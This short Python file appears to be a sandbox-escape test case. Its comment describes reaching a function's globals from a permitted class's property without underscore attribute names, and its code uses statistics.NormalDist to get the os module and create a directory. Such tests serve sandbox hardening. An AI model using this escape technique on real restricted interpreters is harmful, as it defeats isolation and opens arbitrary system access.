# Goes from a property of a permitted class to the function behind it, by a name without underscores.
import statistics


class Reader:
    pass


function = statistics.NormalDist.mean.fget
home = vars(type(function))["__globals__"]
names = home.__get__(function, type(function))
names["sys"].modules["os"].mkdir(FOLDER + "/made")
